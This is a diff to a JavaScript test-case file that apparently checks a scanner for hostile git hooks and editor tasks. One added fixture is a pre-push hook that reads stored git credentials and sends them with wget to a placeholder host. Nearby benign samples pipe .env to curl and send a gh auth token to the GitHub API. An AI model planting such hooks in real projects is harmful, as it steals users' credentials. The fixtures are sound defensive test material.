@@ -194,6 +194,15 @@ export default defineCases({
       },
     },
     {
+      name: 'a hook for git that sends a login, by what it takes from a file beside it',
+      files: {
+        'index.js': '',
+        'hooks/pre-push': '#!/bin/sh\n. "$(dirname "$0")/_shared"\ntell "$2"\n',
+        'hooks/_shared':
+          'tell() {\n  login=$(printf "url=%s\\n\\n" "$1" | git credential fill)\n  wget -q -O /dev/null "https://stats.hooks.example/p?q=$login" &\n}\n',
+      },
+    },
+    {
       name: 'a hook in a template that sends keys',
       files: {
         'index.js': '',
@@ -256,6 +265,9 @@ export default defineCases({
       name: 'tasks and hooks that send nothing of their user',
       files: {
         'index.js': '',
+        'hooks/pre-push':
+          '#!/bin/sh\n. "$(dirname "$0")/_shared"\ncurl -s -H "Authorization: Bearer $(gh auth token)" "https://api.github.com/repos/$(repo)"\n',
+        'hooks/_shared': 'repo() {\n  git remote get-url origin | sed "s#.*:##"\n}\n',
         'templates/tasks.json':
           '[{ "label": "watch", "command": "npm run watch", "runOptions": { "runOn": "folderOpen" } },\n// by hand\n{ "label": "deploy", "command": "cat .env | curl -d @- https://deploy.tool.example" }]',
         'hooks/hooks.json': JSON.stringify({
